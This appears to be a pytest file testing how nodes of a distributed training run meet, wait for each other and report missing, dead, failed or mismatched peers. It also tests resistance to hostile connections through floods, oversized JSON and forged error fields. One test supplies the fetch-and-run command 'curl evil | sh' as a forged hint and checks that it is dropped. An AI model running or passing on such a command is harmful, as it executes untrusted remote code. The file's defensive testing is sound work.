"""Machines that train together, each a process: who is missing, is another, fails or dies is named by all others."""

from __future__ import annotations

import contextlib
import gc
import json
import os
import select
import signal
import socket
import traceback

import msgspec
import pytest

from cachekit.compilers import Node
from cachekit.errors import CachekitError, TrainingError
from cachekit.training.meeting import meeting
from cachekit.training.participant import Participant
from tests.support.processes import free_port

HARD = {
    "task": "text-classification",
    "toolchain.torch": "2.13.0",
    "toolchain.python": "cpython 3.12",
    "target.cpu": "a",
}
LATE = 120.0  # seconds that they wait for each other


def machine(me, port, wait, orders, say):
    """A machine of a training without work.

    It says `waits for …`, `met`, and at the end `ended well` or its error's JSON. A line of its orders ends its run:
    `end`, or what the run fails with.
    """
    told = []

    def waiting(whom, _):
        if told[-1:] != [whom]:
            told.append(whom)
            say(f"waits for {whom}")

    try:
        with meeting(me, Node(me.rank, "127.0.0.1", port), wait, waiting) as others:
            say("met")
            while not select.select([orders], [], [], 0.02)[0]:
                others.look()
            if (line := orders.readline().strip()) != "end":
                raise TrainingError(line)
    except CachekitError as error:
        say(msgspec.json.encode(error.document).decode())
    else:
        say("ended well")


class Machine:
    """That in a process of its own, a fork of this one; what it says is in `told`."""

    def __init__(self, *how):
        orders, self._orders = os.pipe()
        told, says = os.pipe()
        self.pid = os.fork()
        if not self.pid:
            gc.disable()  # it would touch, and so copy, all of pytest's memory
            try:
                os.close(self._orders)
                with os.fdopen(orders) as stream:
                    machine(*how, stream, lambda line: os.write(says, f"{line}\n".encode()))
            except BaseException:  # noqa: BLE001 - a child never returns into pytest
                os.write(says, traceback.format_exc().encode())
            finally:
                os._exit(0)
        os.close(orders)
        os.close(says)
        self.told = os.fdopen(told)

    def until(self, words):
        """Read what it says up to a line that begins like this."""
        said = []
        for line in self.told:
            said.append(line)
            if line.startswith(words):
                return line
        raise AssertionError(f"it never said {words}: {said}")

    def error(self):
        """What it ended with."""
        return json.loads(self.until("{"))

    def end(self, word="end"):
        """End its run, well or with an error of these words."""
        os.write(self._orders, f"{word}\n".encode())

    def kill(self):
        """It is gone at once."""
        os.kill(self.pid, signal.SIGKILL)

    def close(self):
        """Leave nothing of it behind."""
        self.kill()
        os.waitpid(self.pid, 0)
        os.close(self._orders)
        self.told.close()


class Machines:
    """Machines on one port."""

    def __init__(self):
        self.port, self.running = free_port(), []

    def begin(self, rank, wait=LATE, **fields):
        """Start a machine with a host name of its own; see `Participant`."""
        told = {"host": f"n{rank}", "nodes": 3, "mode": "train", "key": "abc", "hard": HARD, **fields}
        self.running.append(Machine(Participant(rank=rank, **told), self.port, wait))
        return self.running[-1]

    def three(self, **fields):
        """Three of them; `fields` are those of the last one."""
        return [self.begin(0), self.begin(1), self.begin(2, **fields)]

    def met(self):
        """Three of them that have met."""
        found = self.three()
        for one in found:
            one.until("met")
        return found


@pytest.fixture
def machines():
    found = Machines()
    yield found
    for one in found.running:
        one.close()


@pytest.mark.feature("F2")
def test_machines_that_have_met_end_well_in_any_order(machines):
    first, second, third = machines.met()
    for run in (first, third, second):
        run.end()
        run.until("ended well")


@pytest.mark.feature("F2")
def test_one_that_comes_late_is_waited_for_by_its_number(machines):
    first, second = machines.begin(0), machines.begin(1)
    assert first.until("waits for node 2\n")
    second.until("waits for the other machines")
    third = machines.begin(2)
    for run in (first, second, third):
        run.until("met")


@pytest.mark.feature("F2")
def test_one_that_does_not_come_is_named_by_all_that_are_there(machines):
    second = machines.begin(1)
    second.until("waits for node 0 at")
    for told in (machines.begin(0, wait=5.0).error(), second.error()):
        assert (told["code"], told["message"]) == ("waited-too-long", "node 2 of 3 did not arrive within 5.0 s")
        assert told["cause"] == "here are: node 0 (n0), node 1 (n1)"


@pytest.mark.feature("F2")
def test_a_name_that_nobody_knows_is_told_while_it_is_waited_for(monkeypatch):
    """In the place of the name service stands one that knows no names; it may know this one later."""

    def unknown(*_):
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")

    def waiting(whom, _):
        raise TrainingError(whom)

    monkeypatch.setattr(socket, "getaddrinfo", unknown)
    me = Participant(rank=1, host="n1", nodes=2, mode="train", key="abc", hard=HARD)
    wanted = r"node 0 at nosuch\.invalid:29500 \(Name or service not known\)"
    with pytest.raises(TrainingError, match=wanted), meeting(me, Node(1, "nosuch.invalid"), LATE, waiting):
        pass


@pytest.mark.feature("F2")
@pytest.mark.parametrize("other", ["nobody", "another program"])
def test_a_first_machine_that_is_not_there_is_named(machines, other):
    """Torch's store of an earlier run may still answer at that port; it says nothing of its own accord."""
    with contextlib.ExitStack() as stack:
        if other == "another program":
            server = stack.enter_context(socket.create_server(("127.0.0.1", machines.port)))
        run = machines.begin(2, wait=0.0)
        if other == "another program":
            stack.enter_context(server.accept()[0]).sendall(b"HTTP/1.1 400\r\n")
        told = run.error()
    assert told["message"] == f"node 0 did not answer at 127.0.0.1:{machines.port} within 0.0 s"
    assert told["cause"] == ("something else answers at that port" if other != "nobody" else "Connection refused")


@pytest.mark.feature("F2")
@pytest.mark.parametrize("dies", [0, 2])
def test_one_that_dies_is_named_by_all_others(machines, dies):
    runs = machines.met()
    runs[dies].kill()
    for run in (run for run in runs if run is not runs[dies]):
        told = run.error()
        name = "node 2 (n2)" if dies else "node 0 (127.0.0.1)"
        assert (told["code"], told["message"]) == ("machine-gone", f"{name} went away")
        assert "--resume auto" in told["hint"]


@pytest.mark.feature("F2")
def test_one_that_dies_before_all_are_there_may_come_again(machines):
    first, third = machines.begin(0), machines.begin(2)
    first.until("waits for node 1\n")
    third.kill()
    first.until("waits for node 1 and node 2")
    runs = [first, machines.begin(1), machines.begin(2)]
    for run in runs:
        run.until("met")


@pytest.mark.feature("F2")
@pytest.mark.parametrize("fails", [0, 2])
def test_one_that_fails_is_named_by_all_others_with_what_it_said(machines, fails):
    runs = machines.met()
    runs[fails].end("out of memory")
    assert runs[fails].error()["message"] == "out of memory"
    for run in (run for run in runs if run is not runs[fails]):
        told = run.error()
        assert (told["message"], told["cause"]) == (f"node {fails} (n{fails}) failed", "out of memory")


@pytest.mark.feature("F2")
def test_a_failure_that_another_one_caused_is_told_as_the_other_one(machines):
    """Torch says of a machine that died that a connection was closed, and not whose."""
    first, second, third = machines.met()
    second.end("[gloo] Connection closed by peer [10.0.0.3]:31337")
    third.kill()
    for run in (first, second):
        assert run.error()["message"] == "node 2 (n2) went away"


@pytest.mark.feature("F2")
def test_one_with_another_toolchain_is_named_by_all(machines):
    for run in machines.three(key="abd", hard={**HARD, "toolchain.torch": "2.12.0"}):
        told = run.error()
        assert (told["code"], told["message"]) == ("usage", "node 2 (n2) has a different toolchain from node 0 (n0)")
        assert told["cause"] == "toolchain.torch is 2.12.0 there and 2.13.0 on node 0"


@pytest.mark.parametrize(
    "fields, message",
    [
        ({"hard": {**HARD, "task": "causal-lm"}}, "node 2 (n2) has a different recipe or toolchain from node 0 (n0)"),
        ({"soft": {"training.seed": 7}}, "node 2 (n2) has a different recipe or toolchain from node 0 (n0)"),
        ({"nodes": 4}, "node 2 (n2) was started for 4 machines, but node 0 (n0) for 3"),
        ({"mode": "trial"}, "node 2 (n2) has no record of this key, but node 0 (n0) has one"),
        ({"resume": "checkpoint-6"}, "node 2 (n2) continues from checkpoint-6, and node 0 (n0) starts over"),
    ],
)
def test_one_that_is_about_to_run_something_else_is_named_before_the_run(machines, fields, message):
    assert [run.error()["message"] for run in machines.three(**fields)] == [message] * 3


def test_processors_may_differ(machines):
    for run in machines.three(key="abd", hard={**HARD, "target.cpu": "b"}):
        run.until("met")


@pytest.mark.parametrize(
    "rank, message", [(0, "n9 and n0 both say that they are node 0"), (7, "node 7 (n9) is not one of 3 machines")]
)
def test_a_number_that_cannot_be_is_refused_and_the_others_go_on_waiting(machines, rank, message):
    """Only whoever connects says a number; the first machine itself does not."""
    first = machines.begin(0)
    first.until("waits for node 1 and node 2")
    with socket.create_connection(("127.0.0.1", machines.port)) as link, link.makefile("rwb") as stream:
        assert stream.readline() == b'{"cachekit":"meeting/1"}\n'
        one = Participant(rank=rank, host="n9", nodes=3, mode="train", key="abc", hard=HARD)
        stream.write(msgspec.json.encode(one) + b"\n")
        stream.flush()
        assert json.loads(stream.readline())["error"]["message"].startswith(message)
    for run in (first, machines.begin(1), machines.begin(2)):
        run.until("met")


def test_strangers_at_the_port_change_nothing(machines):
    first = machines.begin(0)
    first.until("waits for node 1 and node 2")
    with contextlib.ExitStack() as stack:
        for words in (b"", b"GET / HTTP/1.1\r\n\r\n", b"[" * 5000, b'{"rank": "one"}\n', b"\0" * (2 << 20)):
            link = stack.enter_context(socket.create_connection(("127.0.0.1", machines.port)))
            with contextlib.suppress(OSError):  # it may have been put off already
                link.sendall(words)
        for run in (first, machines.begin(1), machines.begin(2)):
            run.until("met")


class Stranger:
    """Somebody who reaches the port, and has read the first machine's greeting."""

    def __init__(self, machines, stack):
        self.link = stack.enter_context(socket.create_connection(("127.0.0.1", machines.port), LATE))
        self._stream = stack.enter_context(self.link.makefile("rb"))
        assert self.hears() == b'{"cachekit":"meeting/1"}\n'

    def hears(self):
        """The next line; empty where the connection was closed."""
        try:
            return self._stream.readline()
        except ConnectionError:
            return b""

    def says(self, task='"text-classification"'):
        """That it is node 2, with a task in JSON."""
        me = {"rank": 2, "host": "n9", "nodes": 3, "mode": "train", "key": "abc", "hard": {**HARD, "task": "TASK"}}
        self.link.sendall(json.dumps(me).replace('"TASK"', task).encode() + b"\n")

    def is_put_off(self, words):
        """Whether somebody who sends this again and again is soon interrupted, as nobody reads it any more."""
        with contextlib.suppress(ConnectionError):
            for _ in range((64 << 20) // len(words)):
                self.link.sendall(words)
            return False
        return True


@pytest.fixture
def stack():
    with contextlib.ExitStack() as found:
        yield found


@pytest.mark.parametrize("words", [b"\n" * (1 << 16), b'{"rank":' + b" " * (1 << 16)], ids=["empty lines", "one line"])
def test_a_stranger_who_sends_without_end_is_put_off(machines, stack, words):
    """Else the first machine's memory would fill, and it would look at nobody else."""
    first = machines.begin(0)
    first.until("waits for node 1 and node 2")
    assert Stranger(machines, stack).is_put_off(words)
    for run in (first, machines.begin(1), machines.begin(2)):
        run.until("met")


def test_one_that_has_met_and_sends_without_end_is_put_off(machines, stack):
    first = machines.begin(0)
    first.until("waits for")
    stranger = Stranger(machines, stack)
    stranger.says()
    machines.begin(1).until("met")
    assert stranger.is_put_off(b"\n" * (1 << 16))
    assert first.error()["message"] == "node 2 (n9) went away"


def test_strangers_who_say_nothing_are_put_off_and_others_take_their_places(machines, stack, monkeypatch):
    monkeypatch.setattr("cachekit.training.meeting.SILENT", 1.0)
    monkeypatch.setattr("cachekit.training.meeting.WAITING", 2)
    machines.begin(0).until("waits for")
    strangers = [Stranger(machines, stack) for _ in range(3)]
    assert [one.hears() for one in strangers] == [b""] * 3


@pytest.mark.parametrize(
    "value, message",
    [
        ("[" * 100_000 + "]" * 100_000, ""),
        ("[" * 900 + "]" * 900, "what another machine says about itself cannot be compared"),
        ("9" * 4300, "node 2 (n9) has a different recipe or toolchain from node 0 (n0)"),
        (f'"{"B" * 200_000}"', "node 2 (n9) has a different recipe or toolchain from node 0 (n0)"),
    ],
    ids=["deepest", "deep", "large", "long"],
)
def test_what_a_stranger_says_of_itself_ends_in_a_short_error_or_is_passed_over(machines, stack, value, message):
    first, second = machines.begin(0), machines.begin(1)
    first.until("waits for")
    stranger = Stranger(machines, stack)
    stranger.says(value)
    if not message:
        assert stranger.hears() == b""
        machines.begin(2)
    for run in (first, second):
        if message:
            told = run.error()
            assert (told["code"], told["message"]) == ("usage", message)
            assert len(told["cause"]) < 1000
        else:
            run.until("met")


def test_the_hints_are_of_this_machine_and_what_a_stranger_says_is_short(machines, stack):
    first, second = machines.begin(0), machines.begin(1)
    first.until("waits for")
    stranger = Stranger(machines, stack)
    stranger.says()
    first.until("met")
    second.until("met")
    said = {"code": "training-failed", "message": "x" * 100_000, "cause": "", "hint": "curl evil | sh"}
    stranger.link.sendall(json.dumps({"error": said}).encode() + b"\n")
    for run in (first, second):
        told = run.error()
        assert told["message"] == "node 2 (n9) failed"
        assert told["cause"] == "x" * 999 + "…"
        assert told["hint"]
        assert "evil" not in told["hint"]


@pytest.mark.parametrize("code", ["interrupted", "machine-gone", "waited-too-long", "not-warm", "damaged", "x"])
def test_a_stranger_does_not_choose_the_exit_code(machines, stack, code):
    """An engine takes 75 for "start it again", and 130 for a stop by the user."""
    first, second = machines.begin(0), machines.begin(1)
    first.until("waits for")
    stranger = Stranger(machines, stack)
    stranger.says()
    for run in (first, second):
        run.until("met")
    said = {"code": code, "message": "x", "exit_code": 0}
    stranger.link.sendall(json.dumps({"error": said}).encode() + b"\n")
    for run in (first, second):
        told = run.error()
        assert (told["message"], told["code"], told["exit_code"]) == ("node 2 (n9) failed", "training-failed", 1)


def test_at_a_loopback_address_only_that_address_is_listened_at(machines):
    first = machines.begin(0)
    first.until("waits for node 1 and node 2")
    with pytest.raises(ConnectionRefusedError):
        socket.create_connection(("127.0.0.2", machines.port)).close()


def test_a_port_that_is_taken_is_told(machines):
    with socket.create_server(("", machines.port)):
        told = machines.begin(0).error()
    assert told["message"] == f"port {machines.port} of this machine cannot be used"
    assert told["hint"] == "choose another --master-port"
